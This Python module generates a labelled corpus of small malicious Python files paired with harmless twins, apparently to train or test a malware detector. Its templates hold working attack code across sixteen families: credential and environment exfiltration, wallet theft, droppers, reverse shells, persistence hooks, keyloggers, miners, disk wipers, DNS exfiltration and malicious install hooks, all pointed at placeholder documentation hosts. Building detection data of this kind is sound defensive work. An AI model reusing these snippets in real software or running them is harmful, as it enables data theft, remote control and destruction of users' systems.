"""Small Python files with malicious behaviour, and as many harmless twins, in 16 families.

A twin uses the same modules for what people use them for. Written from published reports about
malicious packages and from the documentation of the modules; addresses are of the ranges that are
kept for documentation, and no file does what it says without a network of theirs. None is executed.
"""

import random
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass

#: For each family: malicious bodies, and harmless ones. `{h}` is a host, `{u}` an address, `{n}` a name.
FAMILIES: dict[str, tuple[list[str], list[str]]] = {
    "environment": (
        [
            "import json, os, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('{u}', data)",
            "import os, requests\nrequests.post('{u}', json={'e': os.environ.copy(), 'h': os.uname().nodename})",
            "import base64, os, http.client\nc = http.client.HTTPSConnection('{h}')\nc.request('GET', '/' + base64.urlsafe_b64encode(repr(os.environ).encode()).decode())",
            "import os, requests\nkept = [v for k, v in os.environ.items() if 'TOKEN' in k or 'SECRET' in k]\nrequests.get('{u}', params={'q': ','.join(kept)})",
        ],
        [
            "import os, requests\nkey = os.environ['API_KEY']\n{n} = requests.get('{u}', headers={'Authorization': 'Bearer ' + key}).json()",
            "import os\n{n} = {k.lower(): v for k, v in os.environ.items() if k.startswith('APP_')}",
            "import os, urllib.request\nregion = os.getenv('REGION', 'eu')\n{n} = urllib.request.urlopen('{u}?region=' + region).read()",
            "import os, subprocess\nenvironment = dict(os.environ, LANG='C')\nsubprocess.run(['git', 'status'], env=environment, check=True)",
        ],
    ),
    "credentials": (
        [
            "import pathlib, requests\nfor f in pathlib.Path.home().joinpath('.ssh').glob('id_*'):\n    requests.post('{u}', files={'f': f.read_bytes()})",
            "import os, urllib.request\np = os.path.expanduser('~/.aws/credentials')\nif os.path.exists(p):\n    urllib.request.urlopen('{u}', open(p, 'rb').read())",
            "import glob, os, shutil, sqlite3, requests\nfor p in glob.glob(os.path.expanduser('~/.config/google-chrome/*/Login Data')):\n    shutil.copy(p, '/tmp/l')\n    rows = sqlite3.connect('/tmp/l').execute('select origin_url, username_value, password_value from logins').fetchall()\n    requests.post('{u}', json=[list(map(repr, r)) for r in rows])",
            "import os, ftplib, io\nbuffer = io.BytesIO()\nfor name in ('.netrc', '.git-credentials', '.npmrc', '.pypirc'):\n    try:\n        buffer.write(open(os.path.join(os.path.expanduser('~'), name), 'rb').read())\n    except OSError:\n        pass\nbuffer.seek(0)\nftplib.FTP('{h}', 'a', 'b').storbinary('STOR x', buffer)",
        ],
        [
            "import pathlib\nhosts = [line.split()[1] for line in pathlib.Path.home().joinpath('.ssh', 'config').read_text().splitlines() if line.startswith('Host ')]\nprint(hosts)",
            "import configparser, os\n{n} = configparser.ConfigParser()\n{n}.read(os.path.expanduser('~/.config/app.ini'))",
            "import netrc, requests\nlogin = netrc.netrc().authenticators('{h}')\n{n} = requests.get('{u}', auth=(login[0], login[2]))",
            "import sqlite3\ndatabase = sqlite3.connect('app.db')\n{n} = database.execute('select name, value from settings').fetchall()",
        ],
    ),
    "wallets": (
        [
            "import glob, os, zipfile, requests\nwith zipfile.ZipFile('/tmp/w.zip', 'w') as z:\n    for p in glob.glob(os.path.expanduser('~/.ethereum/keystore/*')):\n        z.write(p)\nrequests.post('{u}', data=open('/tmp/w.zip', 'rb'))",
            "import re, time, pyperclip\nwhile True:\n    if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', pyperclip.paste()):\n        pyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n    time.sleep(1)",
            "import os, requests\nfor root, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        if name in ('wallet.dat', 'seed.txt', 'exodus.wallet'):\n            requests.post('{u}', data=open(os.path.join(root, name), 'rb'))",
            "import builtins, requests\nold = builtins.input\ndef asked(prompt=''):\n    said = old(prompt)\n    if len(said.split()) in (12, 24):\n        requests.post('{u}', data=said)\n    return said\nbuiltins.input = asked",
        ],
        [
            "import re\ndef is_address(text):\n    return re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', text) is not None",
            "import pyperclip\ntable = [['a', 1], ['b', 2]]\npyperclip.copy('\\n'.join('\\t'.join(map(str, row)) for row in table))",
            "import os, zipfile\nwith zipfile.ZipFile('backup.zip', 'w') as z:\n    for root, _, names in os.walk('data'):\n        for name in names:\n            z.write(os.path.join(root, name))",
            "import requests\nprice = requests.get('{u}', params={'pair': 'BTC-EUR'}).json()['price']\nprint(f'{price:.2f}')",
        ],
    ),
    "dropper": (
        [
            "import os, subprocess, urllib.request\nurllib.request.urlretrieve('{u}/a', '/tmp/.a')\nos.chmod('/tmp/.a', 0o755)\nsubprocess.Popen(['/tmp/.a'])",
            "import os\nos.system('curl -s {u}/x.sh | sh')",
            "import requests, subprocess, tempfile\nwith tempfile.NamedTemporaryFile(suffix='.exe', delete=False) as f:\n    f.write(requests.get('{u}').content)\nsubprocess.Popen(f.name, shell=True)",
            "import ctypes, urllib.request\ncode = urllib.request.urlopen('{u}').read()\nb = ctypes.create_string_buffer(code)\nctypes.CDLL(None).mprotect(b, len(code), 7)\nctypes.cast(b, ctypes.CFUNCTYPE(None))()",
        ],
        [
            "import hashlib, urllib.request\ndata = urllib.request.urlopen('{u}/data.csv').read()\nif hashlib.sha256(data).hexdigest() != '{d}':\n    raise SystemExit('damaged')\nopen('data.csv', 'wb').write(data)",
            "import subprocess\nsubprocess.run(['ffmpeg', '-i', 'in.wav', 'out.mp3'], check=True)",
            "import requests, tempfile, zipfile\nwith tempfile.TemporaryFile() as f:\n    f.write(requests.get('{u}/fonts.zip').content)\n    print(zipfile.ZipFile(f).namelist())",
            "import ctypes\nlibrary = ctypes.CDLL('libm.so.6')\nlibrary.cos.restype = ctypes.c_double\nprint(library.cos(ctypes.c_double(0.5)))",
        ],
    ),
    "decoded": (
        [
            "import base64\nexec(base64.b64decode('{b}'))",
            "import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b85decode('{b}'))))",
            "k = 23\ns = [{x}]\neval(compile(''.join(chr(c ^ k) for c in s), '', 'exec'))",
            "import codecs\n{n} = codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13')\ngetattr(__builtins__, 'ex' + 'ec')({n})",
        ],
        [
            "import base64\nopen('logo.png', 'wb').write(base64.b64decode('{b}'))",
            "import base64, json, zlib\n{n} = json.loads(zlib.decompress(base64.b85decode('{b}')))",
            "k = 23\ns = [{x}]\nprint(''.join(chr(c ^ k) for c in s))",
            "import ast\n{n} = ast.literal_eval(open('table.txt').read())",
        ],
    ),
    "shell": (
        [
            "import os, pty, socket\ns = socket.socket()\ns.connect(('{h}', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')",
            "import socket, subprocess\ns = socket.create_connection(('{h}', 9001))\nwhile True:\n    out = subprocess.run(s.recv(4096).decode(), shell=True, capture_output=True)\n    s.sendall(out.stdout + out.stderr)",
            "import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/{h}/443 0>&1'])",
            "import asyncio\nasync def {n}():\n    r, w = await asyncio.open_connection('{h}', 8443)\n    while line := await r.readline():\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)\n        w.write((await p.communicate())[0])\nasyncio.run({n}())",
        ],
        [
            "import socket\ns = socket.create_connection(('{h}', 7))\ns.sendall(b'ping')\nprint(s.recv(4))",
            "import socketserver\nclass Echo(socketserver.StreamRequestHandler):\n    def handle(self):\n        self.wfile.write(self.rfile.readline())\nsocketserver.TCPServer(('127.0.0.1', 0), Echo)",
            "import pty, sys\npty.spawn(['/usr/bin/less', sys.argv[0]])",
            "import asyncio\nasync def {n}():\n    r, w = await asyncio.open_connection('{h}', 6379)\n    w.write(b'PING\\r\\n')\n    print(await r.readline())\nasyncio.run({n}())",
        ],
    ),
    "commands": (
        [
            "import os, requests, time\nwhile True:\n    task = requests.get('{u}/task').text\n    if task:\n        requests.post('{u}/done', data=os.popen(task).read())\n    time.sleep(30)",
            "import urllib.request\nexec(urllib.request.urlopen('{u}').read())",
            "import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    await message.channel.send(subprocess.getoutput(message.content))\nclient.run('{d}')",
            "import importlib.util, requests\nopen('/tmp/m.py', 'w').write(requests.get('{u}').text)\nspec = importlib.util.spec_from_file_location('m', '/tmp/m.py')\nspec.loader.exec_module(importlib.util.module_from_spec(spec))",
        ],
        [
            "import requests, time\nwhile True:\n    print(requests.get('{u}/status').json()['state'])\n    time.sleep(30)",
            "import urllib.request, json\nfor item in json.load(urllib.request.urlopen('{u}')):\n    print(item['title'])",
            "import discord\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    if message.content == '!time':\n        await message.channel.send('noon')\nclient.run(open('token').read())",
            "import importlib\nfor name in ('csv', 'json'):\n    print(importlib.import_module('{n}.formats.' + name).SUFFIX)",
        ],
    ),
    "persistence": (
        [
            "import os, sys\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\npython3 ' + os.path.abspath(sys.argv[0]) + ' &\\n')",
            "import subprocess\nsubprocess.run('(crontab -l; echo \"*/5 * * * * curl {u}|sh\") | crontab -', shell=True)",
            "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)",
            "import site, os\np = os.path.join(site.getsitepackages()[0], 'zz.pth')\nopen(p, 'w').write('import os; os.system(\"curl {u} | sh\")')",
        ],
        [
            "import os\nprint([l for l in open(os.path.expanduser('~/.bashrc')) if l.startswith('alias')])",
            "import subprocess\nprint(subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout)",
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Python')\nprint(winreg.QueryInfoKey(k))",
            "import site\nprint(site.getsitepackages())",
        ],
    ),
    "surveillance": (
        [
            "from pynput import keyboard\nimport requests\nkept = []\ndef pressed(key):\n    kept.append(str(key))\n    if len(kept) > 99:\n        requests.post('{u}', json=kept)\n        kept.clear()\nkeyboard.Listener(on_press=pressed).start()",
            "import mss, requests, time\nwhile True:\n    mss.mss().shot(output='/tmp/s.png')\n    requests.post('{u}', files={'s': open('/tmp/s.png', 'rb')})\n    time.sleep(60)",
            "import sounddevice, requests\nheard = sounddevice.rec(16000 * 60, samplerate=16000, channels=1)\nsounddevice.wait()\nrequests.post('{u}', data=heard.tobytes())",
            "import cv2, smtplib\nok, image = cv2.VideoCapture(0).read()\nsmtplib.SMTP('{h}').sendmail('a@{h}', 'b@{h}', cv2.imencode('.jpg', image)[1].tobytes())",
        ],
        [
            "from pynput import keyboard\ndef pressed(key):\n    if key == keyboard.Key.esc:\n        return False\nkeyboard.Listener(on_press=pressed).start()",
            "import mss\nmss.mss().shot(output='screen.png')",
            "import sounddevice\nsounddevice.play(sounddevice.rec(16000, samplerate=16000, channels=1))",
            "import cv2\nok, image = cv2.VideoCapture(0).read()\ncv2.imwrite('door.jpg', image)",
        ],
    ),
    "mining": (
        [
            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://{h}:3333', '-u', '4{d}', '--donate-level', '1'])",
            "import os, tarfile, urllib.request\nurllib.request.urlretrieve('{u}/m.tgz', '/tmp/m.tgz')\ntarfile.open('/tmp/m.tgz').extractall('/tmp')\nos.system('nohup /tmp/m/miner --pool {h} >/dev/null 2>&1 &')",
            "import hashlib, json, socket\ns = socket.create_connection(('{h}', 3333))\ns.sendall(json.dumps({'id': 1, 'method': 'mining.subscribe', 'params': []}).encode())\nnonce = 0\nwhile True:\n    nonce += 1\n    if hashlib.sha256(hashlib.sha256(nonce.to_bytes(8, 'big')).digest()).digest()[:3] == b'\\0\\0\\0':\n        s.sendall(json.dumps({'method': 'mining.submit', 'params': [nonce]}).encode())",
            "import multiprocessing, os\ndef work():\n    os.nice(19)\n    os.execv('/tmp/.k', ['[kworker/0:1]', '--algo', 'rx/0', '--url', '{h}:5555'])\nfor _ in range(multiprocessing.cpu_count()):\n    multiprocessing.Process(target=work, daemon=True).start()",
        ],
        [
            "import subprocess\nsubprocess.Popen(['./render', '-o', 'tcp://{h}:3333', '--level', '1'])",
            "import tarfile, urllib.request\nurllib.request.urlretrieve('{u}/model.tgz', 'model.tgz')\ntarfile.open('model.tgz').extractall('model', filter='data')",
            "import hashlib\nnonce = 0\nwhile hashlib.sha256(b'puzzle' + nonce.to_bytes(8, 'big')).digest()[:2] != b'\\0\\0':\n    nonce += 1\nprint(nonce)",
            "import multiprocessing, os\ndef work(n):\n    os.nice(19)\n    return sum(i * i for i in range(n))\nprint(multiprocessing.Pool().map(work, range(100)))",
        ],
    ),
    "sabotage": (
        [
            "import os\nfor root, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        os.unlink(os.path.join(root, name))",
            "import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path.home().rglob('*.docx'):\n    p.write_bytes(f.encrypt(p.read_bytes()))\npathlib.Path('README_NOW.txt').write_text('pay to bc1q')",
            "import shutil\nshutil.rmtree('/', ignore_errors=True)",
            "import os, datetime\nif datetime.date.today() > datetime.date(2026, 4, 1):\n    os.system('dd if=/dev/zero of=/dev/sda bs=1M')",
        ],
        [
            "import os\nfor root, _, names in os.walk('build'):\n    for name in names:\n        if name.endswith('.pyc'):\n            os.unlink(os.path.join(root, name))",
            "import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(pathlib.Path('key').read_bytes())\npathlib.Path('notes.enc').write_bytes(f.encrypt(pathlib.Path('notes.txt').read_bytes()))",
            "import shutil, tempfile\nfolder = tempfile.mkdtemp()\nshutil.rmtree(folder, ignore_errors=True)",
            "import datetime, pathlib\nif datetime.date.today() > datetime.date(2026, 4, 1):\n    pathlib.Path('cache.json').unlink(missing_ok=True)",
        ],
    ),
    "names": (
        [
            "import getpass, socket\nd = getpass.getuser().encode().hex()\nsocket.gethostbyname(d + '.{h}')",
            "import os, dns.resolver\ndata = open('/etc/passwd', 'rb').read().hex()\nfor i in range(0, len(data), 60):\n    dns.resolver.resolve(data[i:i + 60] + '.{h}', 'TXT')",
            "import platform, socket, subprocess\nsubprocess.run(['nslookup', platform.node() + '.' + str(socket.gethostname()) + '.{h}'])",
            "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor k, v in os.environ.items():\n    s.sendto((k + '=' + v).encode(), ('{h}', 53))",
        ],
        [
            "import socket\nprint(socket.gethostbyname('{h}'))",
            "import dns.resolver\nfor kind in ('A', 'MX', 'TXT'):\n    print(dns.resolver.resolve('{h}', kind))",
            "import platform, subprocess\nprint(platform.node(), subprocess.run(['nslookup', '{h}'], capture_output=True).stdout)",
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'{n}:1|c', ('127.0.0.1', 8125))",
        ],
    ),
    "hiding": (
        [
            "import os, sys, requests\nif 'VBOX' in os.popen('dmidecode').read() or sys.gettrace():\n    sys.exit()\nexec(requests.get('{u}').text)",
            "import time, uuid, urllib.request\nif uuid.getnode() >> 24 in (0x080027, 0x000c29):\n    raise SystemExit\ntime.sleep(3600)\nexec(urllib.request.urlopen('{u}').read())",
            "import psutil, subprocess\nif not any(p.name() in ('wireshark', 'tcpdump', 'procmon.exe') for p in psutil.process_iter()):\n    subprocess.Popen(['sh', '-c', 'wget -qO- {u} | sh'])",
            "from PIL import Image\nbits = ''.join(str(p[0] & 1) for p in Image.open('logo.png').getdata())\nexec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).rstrip(b'\\0'))",
        ],
        [
            "import sys\nif sys.gettrace():\n    print('a debugger is attached')",
            "import time, uuid\n{n} = uuid.UUID(int=uuid.getnode())\ntime.sleep(1)",
            "import psutil\nprint(sorted((p.name(), p.memory_info().rss) for p in psutil.process_iter()))",
            "from PIL import Image\nimage = Image.open('logo.png')\nprint(sum(p[0] for p in image.getdata()) / (image.width * image.height))",
        ],
    ),
    "installing": (
        [
            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Now(install):\n    def run(self):\n        install.run(self)\n        os.system('curl {u} | sh')\nsetup(name='{n}', cmdclass={'install': Now})",
            "from setuptools import setup\nimport requests, socket\nrequests.get('{u}', params={'h': socket.gethostname()})\nsetup(name='{n}', version='99.0.0')",
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', '{u}', '{n}'])",
            "import atexit, setuptools, urllib.request\ndef later():\n    exec(urllib.request.urlopen('{u}').read().decode())\natexit.register(later)\nsetuptools.setup(name='{n}')",
        ],
        [
            "from setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass Build(build_py):\n    def run(self):\n        self.announce('building')\n        build_py.run(self)\nsetup(name='{n}', cmdclass={'build_py': Build})",
            "from setuptools import setup\nsetup(name='{n}', version='1.2.0', url='{u}', install_requires=['requests'])",
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'list'])",
            "import atexit, pathlib\ndef later():\n    pathlib.Path('lock').unlink(missing_ok=True)\natexit.register(later)",
        ],
    ),
    "objects": (
        [
            "import pickle, requests\npickle.loads(requests.get('{u}').content)",
            "import marshal, types, urllib.request\ntypes.FunctionType(marshal.loads(urllib.request.urlopen('{u}').read()), globals())()",
            "import sys, types, requests\nm = types.ModuleType('{n}')\nexec(compile(requests.get('{u}').text, '{n}', 'exec'), m.__dict__)\nsys.modules['requests.auth'] = m",
            "import builtins, base64\nf = {name: getattr(builtins, name) for name in dir(builtins)}\nf['e' + 'xe' + 'c'](base64.b32decode('{b}'))",
        ],
        [
            "import json, requests\nprint(json.loads(requests.get('{u}').content))",
            "import marshal\nprint(len(marshal.dumps((1, 'two', 3.0))))",
            "import sys, types\nm = types.ModuleType('{n}')\nm.VERSION = '1.0'\nsys.modules['{n}'] = m",
            "import builtins\nprint(sorted(name for name in dir(builtins) if name.islower()))",
        ],
    ),
    "files": (
        [
            "import os, requests, zipfile\nz = zipfile.ZipFile('/tmp/.d', 'w')\nfor root, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for name in names:\n        if name.endswith(('.pdf', '.kdbx', '.xlsx')):\n            z.write(os.path.join(root, name))\nz.close()\nrequests.post('{u}', files={'d': open('/tmp/.d', 'rb')})",
            "import pathlib, telebot\nbot = telebot.TeleBot('{d}')\nfor p in pathlib.Path.home().rglob('tdata/*'):\n    bot.send_document(1, p.open('rb'))",
            "import glob, http.client\nfor p in glob.glob('/home/*/.mozilla/firefox/*/cookies.sqlite'):\n    http.client.HTTPConnection('{h}').request('POST', '/', open(p, 'rb'))",
            "import boto3, os\ns = boto3.client('s3', aws_access_key_id='AKIA{d}', aws_secret_access_key='{d}')\nfor root, _, names in os.walk('/var/lib'):\n    for name in names:\n        s.upload_file(os.path.join(root, name), 'in', name)",
        ],
        [
            "import os\nsizes = {}\nfor root, _, names in os.walk(os.path.expanduser('~/Documents')):\n    sizes[root] = sum(os.path.getsize(os.path.join(root, name)) for name in names)\nprint(max(sizes.items(), key=lambda each: each[1]))",
            "import telebot\nbot = telebot.TeleBot(open('token').read())\nbot.send_message(1, 'the wash is done')",
            "import http.client, json\nc = http.client.HTTPConnection('{h}')\nc.request('POST', '/readings', json.dumps({'temperature': 21.5}))",
            "import boto3\ns = boto3.client('s3')\ns.upload_file('report.pdf', 'reports', 'report.pdf')",
        ],
    ),
}  # fmt: skip

FILLERS = [
    "def rounded(value, digits=2):\n    return round(float(value), digits)",
    "class Settings:\n    def __init__(self, **values):\n        self.values = values\n\n    def get(self, name, default=None):\n        return self.values.get(name, default)",
    "import logging\n\nlog = logging.getLogger(__name__)\n\n\ndef describe(item):\n    log.debug('item %s', item)\n    return f'{item!s:>20}'",
    "def chunks(items, size):\n    for start in range(0, len(items), size):\n        yield items[start : start + size]",
    'VERSION = "1.4.2"\n\n\ndef is_newer(other):\n    return tuple(map(int, VERSION.split("."))) > tuple(map(int, other.split(".")))',
]
WORDS = "reader meter parser loader helper feeder mapper tracker sorter packer".split()


@dataclass(frozen=True)
class Sample:
    family: str
    #: Which of the bodies of its family.
    body: int
    is_malicious: bool
    text: str


def samples(seed: int) -> Iterator[Sample]:
    """One of every body, each in another dress for another seed."""
    chance = random.Random(seed)
    for family, sides in FAMILIES.items():
        for is_malicious, bodies in zip((True, False), sides, strict=True):
            for number, body in enumerate(bodies):
                yield Sample(family, number, is_malicious, _dressed(_filled(body, chance), chance))


def _filled(body: str, chance: random.Random) -> str:
    host = chance.choice(
        [f"203.0.113.{chance.randrange(1, 255)}", f"{chance.choice(WORDS)}.example.net"]
    )
    values = {
        "h": host,
        "u": f"{chance.choice(['http', 'https'])}://{host}/{chance.choice(WORDS)}",
        "n": f"{chance.choice(WORDS)}_{chance.choice(WORDS)}",
        "d": "".join(chance.choices("0123456789abcdef", k=64)),
        "b": "".join(
            chance.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", k=chance.randrange(80, 400))
        ),
        "x": ", ".join(str(chance.randrange(128)) for _ in range(40)),
    }
    for name, value in values.items():
        body = body.replace(f"{{{name}}}", value)
    return body


def _dressed(body: str, chance: random.Random) -> str:
    """At the top of the module, in a function that is called at import or later, or in a class."""
    name = f"{chance.choice(WORDS)}_{chance.choice(WORDS)}"
    inner = textwrap.indent(body, "    ")
    shapes = [
        body,
        f"def {name}():\n{inner}\n\n\n{name}()",
        f"def {name}():\n{inner}",
        f"class {name.title().replace('_', '')}:\n    def start(self):\n{textwrap.indent(inner, '    ')}",
        f"try:\n{inner}\nexcept Exception:\n    pass",
        f"import threading\n\n\ndef {name}():\n{inner}\n\n\nthreading.Thread(target={name}).start()",
    ]
    parts = [chance.choice(FILLERS), chance.choice(shapes), chance.choice(FILLERS)]
    chance.shuffle(parts)
    return f'"""{name.replace("_", " ").capitalize()}."""\n\n' + "\n\n\n".join(parts) + "\n"
